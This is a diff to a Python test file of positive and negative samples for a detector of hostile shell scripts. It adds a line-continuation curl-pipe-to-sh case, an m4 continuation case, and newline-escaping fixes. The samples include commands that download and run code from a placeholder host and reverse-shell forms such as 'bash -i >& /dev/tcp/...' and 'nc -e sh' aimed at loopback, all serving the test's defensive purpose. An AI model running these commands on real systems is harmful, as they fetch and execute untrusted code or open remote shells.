@@ -284,6 +284,8 @@ def positives():
            b"bash < <(wget -qO- https://get.example.invalid/i)\n")
     yield ("env_bash.sh", "IRK_Linux_Script_Download_Pipe_Shell",
            b"curl -s https://get.example.invalid/i | env bash\n")
+    yield ("continuation_https.sh", "IRK_Linux_Script_Download_Pipe_Shell",
+           b"curl -fsSL https://get.example.invalid/i.sh \\\n  | sh\n")
     yield ("download_run.sh", "IRK_Linux_Script_Download_Pipe_Shell",
            b"wget -O /tmp/.u https://get.example.invalid/u && chmod +x /tmp/.u && /tmp/.u\n")
     # a Markdown fence line no longer disables the shell rules
@@ -440,18 +442,20 @@ def negatives():
         "Request.QueryString[\"q\"])); %>\n").encode())
     yield ("ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
     yield ("health_lo.sh", (
-        "#!/bin/bash\\nexec 3<>/dev/tcp/127.0.0.1/8080 || exit 1\\n"
-        "exec 196<>/dev/tcp/localhost/5432\\n"
-        "bash -i >& /dev/tcp/127.0.0.53/53 0>&1\\n").encode())
-    yield ("nc_port_test.sh", b"nc -zv db.example.org 5432\\nnc -e sh 127.0.0.1 4444\\n"
-           b"socat tcp:[::1]:80 -\\n")
+        "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080 || exit 1\n"
+        "exec 196<>/dev/tcp/localhost/5432\n"
+        "bash -i >& /dev/tcp/127.0.0.53/53 0>&1\n").encode())
+    yield ("nc_port_test.sh", b"nc -zv db.example.org 5432\nnc -e sh 127.0.0.1 4444\n"
+           b"socat tcp:[::1]:80 -\n")
     yield ("jemalloc.service", (
-        "[Service]\\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\\n"
-        "ExecStart=/usr/bin/redis-server\\n").encode())
-    yield ("read_preload.sh", b"cat /etc/ld.so.preload\\ntest -s /etc/ld.so.preload && echo set\\n")
+        "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"
+        "ExecStart=/usr/bin/redis-server\n").encode())
+    # an m4/configure continuation into a shell, no download
+    yield ("abi.m4", b"    echo 'int x;' \\\n         | sh -s -- cc\n")
+    yield ("read_preload.sh", b"cat /etc/ld.so.preload\ntest -s /etc/ld.so.preload && echo set\n")
     yield ("template.php", (
-        "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\\n"
-        "exec('git rev-parse HEAD', $out);\\n$stmt = $db->exec($sql); ?>\\n").encode())
+        "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\n"
+        "exec('git rev-parse HEAD', $out);\n$stmt = $db->exec($sql); ?>\n").encode())
     yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
            + bytes(range(256)) * 4 + b"\xff\xd9")
 
